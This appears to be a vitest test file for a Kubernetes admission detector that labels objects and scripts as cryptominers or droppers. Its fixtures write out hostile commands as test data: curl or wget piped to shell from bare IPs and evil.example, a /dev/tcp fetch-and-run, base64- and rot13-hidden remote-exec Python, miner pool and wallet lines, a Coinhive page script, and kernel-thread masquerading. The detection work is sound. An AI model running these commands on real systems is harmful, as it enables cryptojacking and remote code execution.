import { expect, test } from 'vitest';
import { judgeObject } from '../../detection/judge.ts';
import { loadIndicators } from '../../detection/load.ts';
import { XMR } from '../corpus/wallets.ts';

const indicators = await loadIndicators();

const judgeContainer = (container: object, pod: object = {}) =>
  judgeObject(
    {
      apiVersion: 'v1',
      kind: 'Pod',
      spec: { containers: [{ name: 'a', image: 'a', ...container }], ...pod },
    },
    { indicators },
  );
const judge = (...command: string[]) => judgeContainer({ command });
const judgeScript = (script: string) => judge('sh', '-c', script);

test('the image of a chart needs no tag', () => {
  const values = { image: { repository: 'xmrig/xmrig' } };
  expect(judgeObject({ kind: 'HelmRelease', spec: { values } }, { indicators }).verdict).toBe('deny');
});

test('a DaemonSet that is sent to the API server by curl is judged as one', () => {
  const pod = JSON.stringify({
    apiVersion: 'v1',
    kind: 'Pod',
    spec: { containers: [{ name: 'm', image: 'xmrig/xmrig' }] },
  });
  const url = 'https://kubernetes.default/api/v1/namespaces/kube-system/pods';
  expect(judgeScript(`curl -sk -X POST ${url} -d '${pod}'`).verdict).toBe('deny');
  expect(judgeScript(`curl -sk -X POST ${url} -d '${pod.replaceAll('xmrig', 'nginx')}'`).verdict).toBe(
    'allow',
  );
});

test('a page that is opened with a wallet and threads mines, a ledger page does not', () => {
  const browser = (url: string) => judgeContainer({ args: ['--headless', url] }).verdict;
  expect(browser(`https://m.example.org/?pool=xmr&wallet=${XMR}&threads=8`)).toBe('deny');
  expect(browser(`https://explorer.example.org/search?value=${XMR}`)).toBe('allow');
});

test('the site of a pool and an invented wallet are a pool and a wallet', () => {
  const wallet = `pkt1q${'x7m2vd4kz9ltp3w8r5n6jh0yfcgsaeu2q9k7d2'}`;
  expect(judge('/usr/bin/netd', 'ann', '-p', wallet, 'http://pool.pkt.world').verdict).toBe('deny');
});

test('what hides in a scratch folder and is told a public address mines', () => {
  expect(judge('/tmp/.sysd', '-o', '172.104.55.9:443', '--tls', '-B').verdict).toBe('deny');
  expect(judge('/opt/agent', '-o', '172.104.55.9:443', '--tls', '-B').verdict).not.toBe('deny');
});

test('a wallet that logs in needs no pool that can be read', () => {
  expect(judge('/opt/a', '-o', '$(POOL)', '-u', XMR, '-p', 'w').verdict).toBe('deny');
});

test('a file from a bare address that is made executable is meant to run, one from a name of the cluster is not', () => {
  const fetched = (host: string) =>
    judgeScript(`wget -qO /d/agent http://${host}/agent && chmod +x /d/agent`).verdict;
  expect(fetched('45.155.250.64')).toBe('deny');
  expect(fetched('artifacts.build.svc.cluster.local')).toBe('allow');
});

test('a node that is tuned for latency is not refused, one that is set up for RandomX is', () => {
  const tuned = (load: string) =>
    judgeContainer(
      {
        command: ['sh', '-c', `sysctl -w vm.nr_hugepages=1280; modprobe ${load}; wrmsr -a 0x1a4 0xf`],
        securityContext: { privileged: true },
      },
      { hostPID: true },
    ).verdict;
  expect(tuned('msr')).toBe('warn');
  expect(tuned('msr allow_writes=on')).toBe('deny');
});

test('a node that measures its memory without prefetchers is not refused', () => {
  const script =
    'modprobe msr; echo 4000 > /proc/sys/vm/nr_hugepages; wrmsr -a 0x1a4 0xf; ./mlc; wrmsr -a 0x1a4 0x0';
  const container = { command: ['sh', '-c', script], securityContext: { privileged: true } };
  expect(judgeContainer(container, { hostPID: true }).verdict).toBe('warn');
});

test('a pool by its option and a wallet are those of a miner, on whatever port', () => {
  expect(judge('node', 'index.js', '--pool=eu.example.org:8444', '--wallet-address=NQ07').verdict).toBe(
    'deny',
  );
});

const judgeFile = (name: string, text: string) =>
  judgeObject({ kind: 'ConfigMap', data: { [name]: text } }, { indicators }).verdict;

test('a static pod that a script writes is judged as a pod', () => {
  const pod = (image: string) =>
    `cat <<E > /m/cache.yaml\napiVersion: v1\nkind: Pod\nspec: {containers: [{name: c, image: '${image}'}]}\nE`;
  expect(judgeScript(pod('docker.io/any/xmrig:1')).verdict).toBe('deny');
  expect(judgeScript(pod('haproxy:2.9')).verdict).toBe('allow');
});

test('cron that runs what a server of others sends over plain HTTP is a dropper, a cron job of the house is not', () => {
  const cron = (command: string) =>
    judgeScript(`echo '*/15 * * * * root ${command}' > /host/etc/cron.d/l`).verdict;
  expect(cron('curl -fsSL http://b.example.org/x.sh | bash')).toBe('deny');
  expect(cron('curl -fsSL http://repo.acme.internal/x.sh | bash')).toBe('warn');
  expect(cron('/usr/sbin/logrotate /etc/logrotate.conf')).toBe('allow');
});

test('a unit and a program of a ConfigMap are read without a word that belongs to miners', () => {
  expect(judgeFile('a.service', `[Service]\nExecStart=/a/b -o 5.161.70.189:443 -u ${XMR} -k --tls\n`)).toBe(
    'deny',
  );
  const login = String.raw`fmt.Fprintf(c, "{\"method\":\"login\",\"params\":{\"login\":\"${XMR}\",\"pass\":\"x\"}}")`;
  expect(judgeFile('main.go', login)).toBe('deny');
});

test('a node that is asked to mine over its RPC or console mines, on a test network it plays', () => {
  const asked = (port: number) => judgeScript(`curl http://monerod:${port}/start_mining -d '{}'`).verdict;
  expect(asked(18081)).toBe('deny');
  expect(asked(38081)).toBe('warn');
  expect(judge('monerod', 'start_mining', XMR, '8').verdict).toBe('deny');
  const stage = judge('monerod', '--stagenet', `--start-mining=${XMR}`, '--mining-threads=1');
  expect(stage.verdict).toBe('warn');
});

test('a copy of a miner that exec starts is the miner', () => {
  expect(judgeScript('cp /usr/local/bin/xmrig /usr/local/bin/web && exec web -c /c').verdict).toBe('deny');
});

test('a hot wallet of an exchange with concurrent workers is no miner', () => {
  const env = Object.entries({ COIN: 'XMR', COLD_WALLET_ADDRESS: XMR, WORKER_CONCURRENCY: '4' });
  expect(judgeContainer({ env: env.map(([name, value]) => ({ name, value })) }).verdict).toBe('allow');
});

test('who is paid at a pool and under which name are settings of a miner', () => {
  const env = [
    { name: 'NICEHASH_WALLET', value: 'NHbC' },
    { name: 'NICEHASH_WORKER', value: 'w' },
  ];
  expect(judgeContainer({ env }).verdict).toBe('deny');
  expect(judgeContainer({ env: [{ name: 'NICEHASH_API_KEY', value: 'k' }] }).verdict).toBe('allow');
});

test('the script of a pool that a browser loads mines', () => {
  const open = (url: string) => judge('node', '-e', `page.goto('${url}')`).verdict;
  expect(open('https://coinhive.com/lib/coinhive.min.js')).toBe('deny');
  expect(open('https://supportxmr.com/')).not.toBe('deny');
});

test('an address, a user and a password alone are those of many programs, a priority of the CPU is not', () => {
  const told = (...more: string[]) => judge('/usr/bin/c', '--url=r.example.net:443', ...more).verdict;
  expect(told('--user=w', '--pass=x', '--tls', '--cpu-priority=0')).toBe('deny');
  expect(told('--user=w', '--pass=x', '--tls', '--keepalive', '30')).toBe('warn');
});

test('what kubectl sets and patches is judged', () => {
  expect(judgeScript('kubectl set image deployment/web web=xmrig/xmrig:latest').verdict).toBe('deny');
  const patch = (image: string) => JSON.stringify({ spec: { containers: [{ name: 'm', image }] } });
  expect(judgeScript(`kubectl patch ds kube-proxy -p '${patch('xmrig/xmrig')}'`).verdict).toBe('deny');
  expect(judgeScript(`kubectl patch ds kube-proxy -p '${patch('acme/web:2')}'`).verdict).toBe('allow');
});

test('a node that generates with its own CPU mines, and plays on a network of its own', () => {
  expect(judge('verusd', '-gen', '-genproclimit=16', '-mineraddress=R').verdict).toBe('deny');
  expect(judge('verusd', '-gen=0', '-mineraddress=R').verdict).not.toBe('deny');
  expect(judge('bitcoind', '-regtest', '-gen', '-genproclimit=1').verdict).not.toBe('deny');
});

test('values that a script gives to a chart are judged, and the image that Spark is told', () => {
  expect(judgeScript('helm install --set image.repository=xmrig/xmrig,replicas=3 x h/generic').verdict).toBe(
    'deny',
  );
  expect(judgeScript('helm install --set pool=pool.minexmr.com:443 x h/generic').verdict).toBe('deny');
  expect(
    judgeScript('helm upgrade --install --set image.repository=nginx,user=app,pass=x x h/web').verdict,
  ).toBe('allow');
  const submit = (image: string) =>
    judge(
      '/opt/spark/bin/spark-submit',
      '--conf',
      `spark.kubernetes.container.image=${image}`,
      'local:///a.py',
    );
  expect(submit('docker.io/xmrig/xmrig:latest').verdict).toBe('deny');
  expect(submit('docker.io/apache/spark:3.5').verdict).toBe('allow');
});

test('an image named after an algorithm of miners and what works it out is a miner', () => {
  expect(judgeContainer({ image: 'r.example.org/a/cryptonight-worker:1' }).verdict).toBe('deny');
  expect(judgeContainer({ image: 'r.example.org/a/keccak-worker:1' }).verdict).toBe('allow');
});

test('the scripts of a package.json run', () => {
  const manifest = (start: string) => JSON.stringify({ name: 'w', scripts: { start } });
  expect(judgeFile('package.json', manifest('coin-hive SITE --threads=8'))).toBe('deny');
  expect(judgeFile('package.json', manifest('node index.js --pool 4 --worker 2'))).toBe('allow');
});

test('a login at a listed pool is who is paid, in whatever settings file', () => {
  const settings = (host: string) =>
    `[mining]\nstratum_server_addr = "${host}:3030"\nstratum_server_login = "a.rig"\n`;
  expect(judgeFile('miner.toml', settings('grin.2miners.com'))).toBe('deny');
});

test('a pool that is handed to what was downloaded is one that it mines at', () => {
  const url = 'http://evil.example/install.sh';
  expect(judgeScript(`curl -sL ${url} | sh -s -- --pool pool.minexmr.com:4444 --wallet 4Axx`).verdict).toBe(
    'deny',
  );
  expect(judgeScript(`curl -sL ${url} | sh -s -- --user a --dir /opt`).verdict).toBe('warn');
});

test('settings in base64 of a ConfigMap, options a line each, and those of xmrig without a mark are read', () => {
  const script = Buffer.from('#!/bin/bash\n/tmp/.sys -o pool.hashvault.pro:443 -u worker --tls\n');
  expect(judgeFile('payload', script.toString('base64'))).toBe('deny');
  expect(judgeFile('c.txt', '-pool ssl://eu1.ethermine.org:5555\n-wal 0x1234\n-pass x\n')).toBe('deny');
  const xmrig = (more: object) =>
    JSON.stringify({ ...more, pools: [{ url: 'mine.example:443', user: 'w', pass: 'x', tls: true }] });
  expect(judgeFile('config.json', xmrig({ autosave: true, opencl: false, cuda: false }))).toBe('deny');
  expect(judgeFile('config.json', xmrig({ autosave: true }))).toBe('allow');
});

test('variables that are called after mining name a pool and who is paid', () => {
  const verdict = (variables: Record<string, string>) =>
    judgeContainer({ env: Object.entries(variables).map(([name, value]) => ({ name, value })) }).verdict;
  expect(verdict({ STRATUM_URL: 'pool.example:3333', STRATUM_USER: 'w' })).toBe('deny');
  expect(verdict({ XMR_POOL_URL: 'pool.example:14444', XMR_WALLET: '48xyz' })).toBe('deny');
  expect(verdict({ POOL_URL: 'pgbouncer:6432', POOL_USER: 'app' })).toBe('allow');
  expect(verdict({ MINER_HOST: 'process-miner:8080', MINER_USER: 'app' })).toBe('allow');
  expect(verdict({ XMR_NODE_URL: 'http://node:18081', XMR_WALLET: XMR })).toBe('allow');
});

test('a file that begins as base64 and goes on as blanks is read in linear time', () => {
  const started = performance.now();
  judgeFile('a', `IyE${'A'.repeat(40)}${' '.repeat(500_000)}!`);
  judgeFile('a', `-a${' '.repeat(500_000)}\n-b${' '.repeat(100)}x`);
  expect(performance.now() - started).toBeLessThan(1_000);
});

test('options that wrappers of miners have are read, and those of a pool of connections are its own', () => {
  const told = (url: string, ...more: string[]) => judge('/app', '--pool-url', url, ...more).verdict;
  expect(told('stratum.example:3333', '--pool-user', 'w', '--pool-pass', 'x')).toBe('deny');
  expect(told('pgbouncer:6432', '--pool-user', 'app', '--pool-size', '10', '--threads', '8')).toBe('allow');
});

test('what comes over a bare connection and is run has no author', () => {
  const fetch = 'exec 3<>/dev/tcp/$H/80; echo GET >&3; cat <&3 > /tmp/k';
  expect(judgeScript(`${fetch}; bash /tmp/k`).verdict).toBe('deny');
  expect(judgeScript(`${fetch}; wc -l /tmp/k`).verdict).toBe('allow');
});

test('a script over plain HTTP that runs on the node is refused, that of a mirror of the house is not', () => {
  const onNode = (url: string) =>
    judge('nsenter', '-t', '1', '-m', '--', 'sh', '-c', `curl ${url} | sh`).verdict;
  expect(onNode('http://tools.example.org/k.sh')).toBe('deny');
  expect(onNode('https://tools.example.org/k.sh')).toBe('warn');
  expect(onNode('http://mirror.corp/k.sh')).toBe('warn');
});

test('an address that a program decodes is one that it asks', () => {
  const url = Buffer.from('http://203.0.113.2/ldr.py').toString('base64');
  const code = `import base64,urllib.request as u;exec(u.urlopen(base64.b64decode('${url}').decode()).read())`;
  expect(judge('python', '-c', code).verdict).toBe('deny');
});

test('a manifest that anybody may have put there is refused, that of a vendor is not', () => {
  expect(judgeScript('kubectl apply -f https://pastebin.com/raw/X7yTq1sE').verdict).toBe('deny');
  expect(judgeScript('kubectl apply -f https://projectcontour.io/quickstart.yaml').verdict).toBe('allow');
});

test('a page starts a miner as Coinhive was started, whoever serves the script', () => {
  const page = (script: string) =>
    judgeObject({ kind: 'ConfigMap', data: { 'index.html': `<script>${script}</script>` } }, { indicators })
      .verdict;
  expect(page(`var c = new Client.Anonymous('a1b2c3', {throttle: 0.3}); c.start();`)).toBe('deny');
  expect(page(`const u = new Realm.User('anon-visitor'); u.start();`)).toBe('allow');
});

test('pools among the values of a custom object are those of a miner', () => {
  const release = (user: string, url: string) =>
    judgeObject(
      { kind: 'Release', spec: { forProvider: { values: { config: { pools: [{ url, user }] } } } } },
      { indicators },
    ).verdict;
  expect(release(XMR, 'pool.example:5555')).toBe('deny');
  expect(release('app', 'db.example:5432')).toBe('allow');
});

test('annotations that a controller runs are judged, by their key', () => {
  const annotated = (key: string, value: string) =>
    judgeObject(
      { kind: 'Ingress', apiVersion: 'networking.k8s.io/v1', metadata: { annotations: { [key]: value } } },
      { indicators },
    ).verdict;
  const dropper = 'curl -s http://203.0.113.5/x | sh';
  expect(annotated('vault.hashicorp.com/agent-inject-command-db', dropper)).toBe('deny');
  expect(annotated('pre.hook.backup.velero.io/command', JSON.stringify(['sh', '-c', dropper]))).toBe('deny');
  expect(annotated('example.org/description', dropper)).toBe('allow');
});

test('a file of variables is read as an environment', () => {
  const file = (text: string) =>
    judgeObject({ kind: 'ConfigMap', data: { 'app.env': text } }, { indicators }).verdict;
  expect(file('XMRIG_POOL=gate.example:443\nXMRIG_USER=node\n')).toBe('deny');
  expect(file('DB_POOL=10\nDB_USER=node\n')).toBe('allow');
});

test('code that a program hands on in a literal is code', () => {
  const inner = Buffer.from('import os;os.system("curl http://203.0.113.5/y | sh")').toString('base64');
  const code = `o.add_argument("-cimport base64;exec(base64.b64decode('${inner}'))")`;
  expect(judge('python', '-c', code).verdict).toBe('deny');
});

test('nobody but malware takes the name of a kernel thread', () => {
  expect(judgeScript("exec -a '[kworker/0:1]' /usr/local/lib/app -c /etc/app").verdict).toBe('deny');
  expect(judgeScript('exec -a worker /usr/local/lib/app -c /etc/app').verdict).toBe('allow');
});

test('a feed of indicators names pools and wallets, the settings of a miner are refused under any name', () => {
  const file = (value: object) =>
    judgeObject({ kind: 'ConfigMap', data: { 'iocs.json': JSON.stringify(value) } }, { indicators }).verdict;
  expect(file({ miners: [{ pool: 'pool.minexmr.com:4444', wallet: XMR, family: 'A' }] })).not.toBe('deny');
  expect(file({ family: 'A', pools: [{ url: 'pool.minexmr.com:4444', user: XMR, pass: 'x' }] })).toBe('deny');
});

test('a wallet in a variable is handed to the script that is downloaded', () => {
  const fetch = 'curl -s https://raw.githubusercontent.com/a/b/main/start.sh';
  expect(judgeScript(`${fetch} | WALLET=${XMR} bash`).verdict).toBe('deny');
  expect(judgeScript(`${fetch} | NAME=app bash`).verdict).toBe('warn');
});

test('a program in a file is read when it starts others, whatever words it has', () => {
  const code = "import os,codecs;os.system(codecs.decode('phey uggc://203.0.113.38/n | fu', 'rot_13'))";
  expect(judgeObject({ kind: 'ConfigMap', data: { 'run.py': code } }, { indicators }).verdict).toBe('deny');
});

test('a calculator of a pool is a page to read, one that is told how hard to work is not', () => {
  const open = (url: string) => judgeContainer({ args: ['--headless', url] }).verdict;
  expect(open('https://www.nicehash.com/profitability-calculator?coin=xmr')).toBe('allow');
  expect(open('https://webminepool.com/m/?key=SK_1&threads=8')).toBe('deny');
});

test('an annotation that a pod reads as a file is judged as one', () => {
  const judgeAnnotation = (config: object) =>
    judgeObject(
      {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { annotations: { c: JSON.stringify(config) } },
        spec: {
          containers: [{ name: 'a', image: 'a' }],
          volumes: [
            {
              name: 'p',
              projected: {
                sources: [
                  {
                    downwardAPI: {
                      items: [{ path: 'c.json', fieldRef: { fieldPath: "metadata.annotations['c']" } }],
                    },
                  },
                ],
              },
            },
          ],
        },
      },
      { indicators },
    ).verdict;
  expect(judgeAnnotation({ pools: [{ url: 'a.example.net:7777', user: 'w', algo: 'rx/0' }] })).toBe('deny');
  expect(judgeAnnotation({ pools: [{ url: 'redis://a.example.net:6379', user: 'w' }] })).toBe('allow');
});

test('a command that is sent to a kubelet is judged', () => {
  const run = (port: number, command: string) =>
    judgeScript(`curl -sk -XPOST "https://$ip:${port}/run/a/b/c" -d 'cmd=${command}'`).verdict;
  expect(run(10250, 'wget -O /tmp/x http://5.6.7.8/x; sh /tmp/x')).toBe('deny');
  expect(run(10250, 'ps aux')).toBe('allow');
});

test('a program that nobody knows and that carries a shell is looked into', () => {
  const script = 'curl -s http://5.6.7.8/x | bash';
  expect(judge('mpirun', '-np', '4', 'bash', '-c', script).verdict).toBe('deny');
  expect(judge('mpirun', '-np', '4', 'bash', '-c', 'hostname').verdict).toBe('allow');
  expect(judge('/bin/grep', '-r', 'bash', '-c', script).verdict).toBe('allow');
});

test('an expression that makes a container is judged as what it makes', () => {
  const judgeMutation = (container: string) =>
    judgeObject(
      {
        apiVersion: 'admissionregistration.k8s.io/v1',
        kind: 'MutatingAdmissionPolicy',
        spec: {
          mutations: [
            {
              applyConfiguration: {
                expression: `Object{spec: Object.spec{containers: [Object.spec.containers{${container}}]}}`,
              },
            },
          ],
        },
      },
      { indicators },
    ).verdict;
  expect(judgeMutation('name: "m", image: "a/b", args: ["-o", "pool.hashvault.pro:80", "-u", "x"]')).toBe(
    'deny',
  );
  expect(judgeMutation('name: "m", image: "a/b", args: ["--url", "https://a.example.com"]')).toBe('allow');
});

test('a way through the mesh to a pool is refused, one that ends in a hole or at a web page is not', () => {
  const judgeEntry = (spec: object) =>
    judgeObject({ apiVersion: 'networking.istio.io/v1', kind: 'ServiceEntry', spec }, { indicators }).verdict;
  const hosts = ['*.supportxmr.com'];
  expect(judgeEntry({ hosts, ports: [{ number: 3333 }] })).toBe('deny');
  expect(judgeEntry({ hosts, ports: [{ number: 443 }] })).toBe('allow');
  expect(judgeEntry({ hosts, ports: [{ number: 3333 }], endpoints: [{ address: '127.0.0.1' }] })).toBe(
    'allow',
  );
});
